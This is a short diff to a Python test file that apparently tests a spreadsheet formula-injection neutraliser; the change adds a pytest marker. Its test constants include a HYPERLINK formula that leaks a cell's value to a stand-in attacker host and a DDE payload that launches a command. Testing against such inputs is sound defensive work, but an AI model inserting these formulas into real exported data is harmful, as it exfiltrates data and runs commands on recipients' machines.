@@ -18,6 +18,8 @@ from resolvers.platform.spreadsheet import neutralise
 from tests.conftest import NOW
 from tests.support import Api, SpendLog, add_spend
 
+pytestmark = pytest.mark.litellm_tables
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 SUM = "@SUM(1+1)"
 CMD = "+cmd|' /C calc'!A0"
